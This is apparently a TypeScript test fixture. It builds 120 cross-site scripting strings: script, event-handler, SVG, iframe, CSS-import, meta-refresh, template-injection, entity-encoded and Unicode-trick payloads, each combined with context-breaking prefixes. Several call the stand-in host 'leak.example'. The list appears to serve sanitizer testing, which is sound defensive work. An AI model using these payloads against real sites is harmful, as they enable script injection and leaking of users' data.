/** Whatever they fetch would reach a host of this name. */
export const LEAK = 'leak.example';
const URL = `//${LEAK}/x`;

/** Markup, templates and addresses that run something, ask for something or change what is drawn, where a text is taken for more than a text. */
const PAYLOADS: readonly string[] = [
  '<script>top.hit=1</script>',
  `<script src=${URL}></script>`,
  '<img src=x onerror=top.hit=1>',
  `<img src=${URL}>`,
  `<img srcset="${URL} 1x">`,
  '<svg/onload=top.hit=1>',
  '<svg><script>top.hit=1</script></svg>',
  '<svg><a xlink:href="javascript:top.hit=1"><text>x</text></a></svg>',
  '<math><mtext><img src=x onerror=top.hit=1></mtext></math>',
  '<iframe srcdoc="<script>top.hit=1</script>">',
  `<iframe src=${URL}>`,
  '<object data="javascript:top.hit=1">',
  `<embed src=${URL}>`,
  '<details open ontoggle=top.hit=1>',
  '<body onload=top.hit=1>',
  '<input autofocus onfocus=top.hit=1>',
  '<video src=x onerror=top.hit=1>',
  `<video poster=${URL}>`,
  `<audio src=${URL} autoplay>`,
  '<marquee onstart=top.hit=1>',
  `<link rel=stylesheet href=${URL}>`,
  `<link rel=preload as=image href=${URL}>`,
  `<style>@import"${URL}"</style>`,
  `<style>*{background:url(${URL})}</style>`,
  `<p style="background:url(${URL})">`,
  `<base href=${URL}>`,
  `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<form action=${URL}><button>x</button></form>`,
  `<a href=${URL} ping=${URL}>x</a>`,
  '<a href="javascript:top.hit=1">x</a>',
  'javascript:top.hit=1//',
  'data:text/html,<script>top.hit=1</script>',
  '{{constructor.constructor("top.hit=1")()}}',
  '${top.hit=1}',
  '#{top.hit=1} <%= top.hit=1 %>',
  '&lt;script&gt;top.hit=1&lt;/script&gt;',
  '&#60;img src=x onerror=top.hit=1&#62;',
  '\u202Etxet<b>x</b>\u202C',
  '<b>b\u200Bo\u200Dl\u2060d</b>',
  '<template><script>top.hit=1</script></template>',
];

/** Ends of what a text might have been put into. */
const BREAKS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"'>${payload}`,
  (payload) => `</title></textarea></style>${payload}`,
];

/** 120 texts. */
export const XSS: readonly string[] = BREAKS.flatMap((put) => PAYLOADS.map(put));
